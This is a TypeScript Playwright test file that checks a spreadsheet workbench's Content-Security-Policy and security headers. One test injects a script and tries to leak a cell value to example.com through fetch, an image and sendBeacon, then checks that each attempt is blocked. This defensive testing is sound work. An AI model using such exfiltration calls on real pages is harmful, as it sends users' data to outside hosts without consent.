import { download, pressRibbon, setWorkbench, typeInGrid, type OpenWorkbench, type WorkbenchStage } from "./workbench-page";

jest.setTimeout(180_000);

let stage: WorkbenchStage;
/** A workbench to look at; nothing is pressed in it. */
let opened: OpenWorkbench;

beforeAll(async () => {
  stage = await setWorkbench();
  opened = await stage.open();
});

afterAll(() => stage?.close());

test("the workbench's policy lets nothing run or load but its own files, and the only inline styles are the grid's own", async () => {
  const { page } = opened;
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  const directives = new Map(policy!.split(";").map((part) => [part.trim().split(" ")[0]!, part.trim().split(" ").slice(1)]));
  expect(directives.get("default-src")).toEqual(["'none'"]);
  expect(directives.get("base-uri")).toEqual(["'none'"]);
  expect(directives.get("form-action")).toEqual(["'none'"]);
  for (const directive of ["script-src", "connect-src", "frame-src", "worker-src", "font-src"])
    expect([directive, directives.get(directive)]).toEqual([directive, ["'self'"]]);
  expect(directives.get("img-src")).toEqual(["'self'", "data:"]);
  expect(directives.get("style-src")!.filter((source) => !source.startsWith("'sha256-"))).toEqual(["'self'"]);
  for (const sources of directives.values()) for (const source of sources) expect(source).not.toMatch(/unsafe|\*/);
});

test("no page of another address may frame the workbench or the pane, and no type is guessed", async () => {
  const { page } = opened;
  for (const path of ["/workbench.html", "/taskpane.html"]) {
    const headers = (await page.request.get(new URL(path, page.url()).href)).headers();
    expect([path, headers["content-security-policy"], headers["x-content-type-options"]]).toEqual([
      path,
      "frame-ancestors 'self'",
      "nosniff",
    ]);
  }
});

test("a script that got into the page does not run, and nothing of the workbook can leave by a request", async () => {
  const { page, strangers } = opened;
  const outcome = await page.evaluate(
    () =>
      new Promise<Record<string, unknown>>((resolve) => {
        // As the page's own code would, not as the tests' tools may.
        setTimeout(async () => {
          const inline = document.createElement("script");
          inline.textContent = "window.ranInline = true";
          document.body.append(inline);
          let evaluated: unknown;
          try {
            evaluated = new Function("return 1")();
          } catch (error) {
            evaluated = (error as Error).name;
          }
          const target = "https://example.com/?cell=1";
          const fetched = await fetch(target, { mode: "no-cors" }).then(
            () => "fetched",
            () => "not fetched",
          );
          const image = new Image();
          const seen = new Promise((done) => (image.onerror = () => done("no image")));
          image.src = target;
          navigator.sendBeacon(target, "1");
          resolve({ ran: "ranInline" in window, evaluated, fetched, seen: await seen });
        });
      }),
  );
  expect(outcome).toEqual({ ran: false, evaluated: "EvalError", fetched: "not fetched", seen: "no image" });
  expect(strangers).toEqual([]);
});

test("opening, checking, typing, undoing and downloading offend the policy nowhere", async () => {
  const { page, pane, strangers, complaints } = await stage.open();
  await pressRibbon(page, "一键核算");
  await pane.getByText("核算完成").first().waitFor();
  await typeInGrid(page, "附件2 到岗情况", "Q6", "√");
  await page.keyboard.press("Control+z");
  await page.keyboard.press("F2");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Switch to English" }).click();
  await pane.getByRole("button", { name: "Recompute and flag" }).waitFor();
  await page.getByRole("button", { name: "切换到中文" }).click();
  await pane.getByRole("button", { name: "一键核算" }).waitFor();
  await download(page);
  expect({ strangers, complaints }).toEqual({ strangers: [], complaints: [] });
});
